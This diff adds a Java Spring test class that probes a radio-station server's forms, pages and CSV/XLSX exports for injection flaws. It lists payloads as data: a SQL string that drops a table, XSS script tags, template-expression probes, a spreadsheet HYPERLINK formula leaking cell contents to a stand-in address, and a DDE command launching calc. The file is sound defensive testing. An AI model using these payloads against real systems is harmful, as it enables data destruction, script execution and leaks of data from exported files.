@@ -1,0 +1,259 @@
+package vn.loaphuong.server.pages;
+
+import static org.assertj.core.api.Assertions.assertThat;
+import static org.springframework.security.test.web.servlet.request.SecurityMockMvcRequestPostProcessors.csrf;
+import static org.springframework.security.test.web.servlet.request.SecurityMockMvcRequestPostProcessors.user;
+
+import java.io.ByteArrayInputStream;
+import java.nio.charset.StandardCharsets;
+import java.util.ArrayList;
+import java.util.Arrays;
+import java.util.List;
+import java.util.Set;
+import java.util.TreeSet;
+import org.apache.poi.ss.usermodel.Cell;
+import org.apache.poi.ss.usermodel.CellType;
+import org.apache.poi.ss.usermodel.Row;
+import org.apache.poi.ss.usermodel.Sheet;
+import org.apache.poi.xssf.usermodel.XSSFWorkbook;
+import org.assertj.core.api.SoftAssertions;
+import org.junit.jupiter.api.BeforeEach;
+import org.junit.jupiter.api.Test;
+import org.springframework.beans.factory.annotation.Autowired;
+import org.springframework.beans.factory.annotation.Qualifier;
+import org.springframework.core.MethodParameter;
+import org.springframework.http.HttpMethod;
+import org.springframework.jdbc.core.simple.JdbcClient;
+import org.springframework.test.web.servlet.assertj.MockMvcTester;
+import org.springframework.test.web.servlet.assertj.MvcTestResult;
+import org.springframework.web.bind.annotation.RequestMethod;
+import org.springframework.web.bind.annotation.RequestParam;
+import org.springframework.web.method.HandlerMethod;
+import org.springframework.web.servlet.mvc.method.RequestMappingInfo;
+import org.springframework.web.servlet.mvc.method.annotation.RequestMappingHandlerMapping;
+import vn.loaphuong.server.ServerTest;
+import vn.loaphuong.server.library.BulletinKind;
+import vn.loaphuong.server.library.Library;
+import vn.loaphuong.server.people.PeopleRegister;
+import vn.loaphuong.server.people.Role;
+import vn.loaphuong.server.people.SignedIn;
+import vn.loaphuong.server.trail.Change;
+
+/**
+ * SQL, HTML, template expressions and spreadsheet formulas in every field of every form and query
+ * there is, found by asking the handlers themselves; then every page and export is looked over.
+ */
+class InjectionTest extends ServerTest {
+
+  private static final String SQL = "x' or 1=1; drop table person; --";
+  private static final String HTML =
+      "\"'><script>alert(4711)</script><img src=x onerror=alert(4711)>";
+  private static final String TEMPLATE = "__${7*191}__::.x ${7*191} *{7*191} #{x} [[${7*191}]]";
+  private static final String FORMULA = "=HYPERLINK(\"http://192.0.2.1/?\"&A1;\"bấm\")";
+  private static final List<String> EVIL =
+      List.of(SQL, HTML, TEMPLATE, FORMULA, "@SUM(1)", "+1+cmd|' /C calc'!A0", "-2+3", "{0} %s %n");
+
+  @Autowired
+  @Qualifier("requestMappingHandlerMapping")
+  private RequestMappingHandlerMapping handlers;
+
+  @Autowired private PeopleRegister people;
+  @Autowired private Library library;
+  @Autowired private JdbcClient jdbc;
+  @Autowired private org.springframework.context.ApplicationEventPublisher events;
+
+  private SignedIn root;
+
+  @BeforeEach
+  void somebodyWhoMayDoEverything() {
+    root =
+        people.all().stream()
+            .filter(known -> known.name().equals("Người thử mọi thứ"))
+            .findAny()
+            .map(SignedIn::new)
+            .orElseGet(() ->
+                new SignedIn(
+                    people.add("Người thử mọi thứ", "mật khẩu của đài", Set.of(Role.values()))));
+  }
+
+  @Test
+  void nothingThatIsTypedIsEverMoreThanText() {
+    Set<String> fields = new TreeSet<>();
+    SoftAssertions all = new SoftAssertions();
+    for (var handler : handlers.getHandlerMethods().entrySet()) {
+      for (String pattern : handler.getKey().getPatternValues()) {
+        if (!isForPeople(pattern)) {
+          continue;
+        }
+        List<String> names = fieldsOf(handler.getValue());
+        names.forEach(name -> fields.add(pattern + " " + name));
+        for (String evil : EVIL) {
+          MvcTestResult answer = send(handler.getKey(), pattern, names, evil);
+          all.assertThat(answer.getResponse().getStatus())
+              .as("%s with %s", pattern, evil)
+              .isLessThan(500);
+          judge(all, pattern, answer);
+        }
+      }
+    }
+    assertThat(fields.size()).as("fields tried: " + fields).isGreaterThan(60);
+    all.assertAll();
+    assertThat(jdbc.sql("select count(*) from person").query(Long.class).single()).isPositive();
+  }
+
+  @Test
+  void whatIsStoredIsShownAsText() {
+    for (String evil : EVIL) {
+      library.write(root.actor(), BulletinKind.NOTICE, evil, shortened(evil), "Họp. " + evil);
+      events.publishEvent(
+          Change.of("trail.station.changed", "station", evil)
+              .with("settings.name", evil, evil + evil));
+    }
+    SoftAssertions all = new SoftAssertions();
+    List<String> pages = pages();
+    for (String page : pages) {
+      judge(all, page, http.get().uri(page).with(user(root)).exchange());
+    }
+    all.assertAll();
+    assertThat(pages).contains("/", "/bulletins", "/settings/trail", "/settings/people");
+    assertThat(http.get().uri("/bulletins").with(user(root)))
+        .bodyText()
+        .contains("&lt;script&gt;alert(4711)");
+  }
+
+  @Test
+  void noExportHasAFormulaInIt() throws Exception {
+    for (String evil : EVIL) {
+      events.publishEvent(
+          Change.of("trail.station.changed", "station", evil)
+              .with("settings.name", evil, evil + "x")
+              .by("evil", evil));
+    }
+    String csv =
+        new String(
+            http.get()
+                .uri("/settings/trail/export.csv")
+                .with(user(root))
+                .exchange()
+                .getResponse()
+                .getContentAsByteArray(),
+            StandardCharsets.UTF_8);
+    List<List<String>> lines = parsed(csv.substring(1));
+    assertThat(lines).hasSizeGreaterThan(EVIL.size());
+    assertThat(lines).allSatisfy(line -> assertThat(line).hasSize(9));
+    assertThat(lines.stream().flatMap(List::stream))
+        .noneMatch(field -> field.matches("(?s)[=+\\-@\\t\\r\\n].*"))
+        .anyMatch(field -> field.equals("'" + FORMULA));
+
+    byte[] book =
+        http.get()
+            .uri("/api/v1/airings.xlsx")
+            .with(user(root))
+            .exchange()
+            .getResponse()
+            .getContentAsByteArray();
+    try (XSSFWorkbook workbook = new XSSFWorkbook(new ByteArrayInputStream(book))) {
+      for (Sheet sheet : workbook) {
+        for (Row row : sheet) {
+          for (Cell cell : row) {
+            assertThat(cell.getCellType()).isNotEqualTo(CellType.FORMULA);
+          }
+        }
+      }
+    }
+  }
+
+  private static boolean isForPeople(String pattern) {
+    return !pattern.startsWith("/api/v1/agent")
+        && !pattern.startsWith("/v3/")
+        && !pattern.equals("/error")
+        // Would end the session or make the administrator anew.
+        && !pattern.contains("first-run");
+  }
+
+  private List<String> pages() {
+    return handlers.getHandlerMethods().keySet().stream()
+        .filter(info -> info.getMethodsCondition().getMethods().contains(RequestMethod.GET))
+        .flatMap(info -> info.getPatternValues().stream())
+        .filter(
+            pattern -> isForPeople(pattern) && !pattern.contains("{") && !pattern.contains("/api/"))
+        .distinct()
+        .sorted()
+        .toList();
+  }
+
+  /** What a handler takes: its parameters, and those of the records it has filled. */
+  private static List<String> fieldsOf(HandlerMethod handler) {
+    List<String> names = new ArrayList<>();
+    for (MethodParameter parameter : handler.getMethodParameters()) {
+      Class<?> type = parameter.getParameterType();
+      if (parameter.hasParameterAnnotation(RequestParam.class)) {
+        parameter.initParameterNameDiscovery(
+            new org.springframework.core.DefaultParameterNameDiscoverer());
+        String name = parameter.getParameterName();
+        RequestParam given = parameter.getParameterAnnotation(RequestParam.class);
+        names.add(given == null || given.name().isEmpty() ? String.valueOf(name) : given.name());
+      } else if (type.isRecord()) {
+        Arrays.stream(type.getRecordComponents())
+            .forEach(component -> names.add(component.getName()));
+      }
+    }
+    return names;
+  }
+
+  private MvcTestResult send(
+      RequestMappingInfo handler, String pattern, List<String> names, String evil) {
+    Set<RequestMethod> methods = handler.getMethodsCondition().getMethods();
+    HttpMethod method =
+        methods.isEmpty() ? HttpMethod.GET : methods.iterator().next().asHttpMethod();
+    String path = pattern.replaceAll("\\{[^}]*}", "nobodys-id").replace("/**", "/x");
+    MockMvcTester.MockMvcRequestBuilder request =
+        http.method(method).uri(path).with(csrf()).with(user(root));
+    for (String name : names) {
+      request.param(name, evil);
+    }
+    return request.exchange();
+  }
+
+  private static void judge(SoftAssertions all, String place, MvcTestResult answer) {
+    String type = String.valueOf(answer.getResponse().getContentType());
+    if (!type.startsWith("text/html")) {
+      return;
+    }
+    String html = new String(answer.getResponse().getContentAsByteArray(), StandardCharsets.UTF_8);
+    all.assertThat(html)
+        .as(place)
+        .doesNotContain("<script>alert", "<img src=x", "1337", "Exception", "SQLITE", "org.sqlite");
+  }
+
+  private static String shortened(String evil) {
+    return evil.substring(0, Math.min(60, evil.length()));
+  }
+
+  /** RFC 4180 with semicolons. */
+  private static List<List<String>> parsed(String csv) {
+    List<List<String>> lines = new ArrayList<>();
+    List<String> line = new ArrayList<>();
+    StringBuilder field = new StringBuilder();
+    boolean quoted = false;
+    for (int i = 0; i < csv.length(); i++) {
+      char c = csv.charAt(i);
+      if (quoted && c == '"' && i + 1 < csv.length() && csv.charAt(i + 1) == '"') {
+        field.append(c);
+        i++;
+      } else if (c == '"') {
+        quoted = !quoted;
+      } else if (!quoted && (c == ';' || c == '\n')) {
+        line.add(field.toString());
+        field.setLength(0);
+        if (c == '\n') {
+          lines.add(List.copyOf(line));
+          line.clear();
+        }
+      } else if (quoted || c != '\r') {
+        field.append(c);
+      }
+    }
+    return lines;
+  }
+}
